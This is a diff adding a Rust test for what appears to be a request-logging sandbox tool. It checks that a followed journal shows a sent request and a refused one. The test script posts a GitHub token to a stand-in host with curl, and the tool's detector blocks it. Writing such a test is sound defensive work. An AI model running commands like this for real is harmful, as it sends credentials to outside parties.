@@ -464,6 +464,41 @@ fn requests_are_written_down_in_a_chain() {
     }
 }
 
+/// A journal is shown while it is written, by a process that began before there was one.
+#[test]
+fn what_happens_is_shown() {
+    if !has("curl") {
+        return;
+    }
+    let stage = Stage::new();
+    let mut follower = stage.sandbox.command(&["log", "show", "--follow", "run.report"]);
+    let follower = follower.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
+    let token = github_token();
+    let script =
+        format!("curl -sS https://other.example.com/a; curl -sS -d {token} https://other.example.com/b");
+    stage.run(&["--log", "run.report"], &[], &["sh", "-c", &script]).exits_with(0);
+    let run = stage.sandbox.checked(follower.wait_with_output().unwrap()).exits_with(0);
+    let run = run
+        .prints("  start     a run whose key is ")
+        .prints("  sent      https://other.example.com:443  plain, 0 B\n");
+    let run = run
+        .prints("  refused   https://other.example.com:443  plain, ")
+        .prints("github-pat (high) in body: block\n");
+    run.prints("  end").notes("1 request left, 0 B; 1 refused\n");
+    let run =
+        stage.sandbox.run(&["log", "show", "--stopped", "--color", "always", "run.report"]).exits_with(0);
+    run.prints("\u{1b}[1;31mrefused").prints_not("sent").notes("1 request left");
+    let path = stage.sandbox.top().join("run.report");
+    let text = std::fs::read_to_string(&path).unwrap();
+    let show = |text: &str| {
+        std::fs::write(&path, text).unwrap();
+        stage.sandbox.run(&["log", "show", "run.report"])
+    };
+    show(&text[..text.len() - 5]).exits_with(0).notes("its last line is not whole").notes("1 refused");
+    show(&format!("{text}[1]\n")).exits_with(2).notes("run.report:5: this is no record");
+    stage.sandbox.run(&["log", "show", "is-not-there"]).exits_with(2).notes("it cannot be read");
+}
+
 /// A command that ends with 5 when it is asked to.
 fn ends_by_signal(stage: &Stage, args: &[&str]) {
     let script = "trap 'exit 5' TERM; touch ready; i=0; while [ $i -lt 200 ]; do sleep 0.1; i=$((i+1)); done";
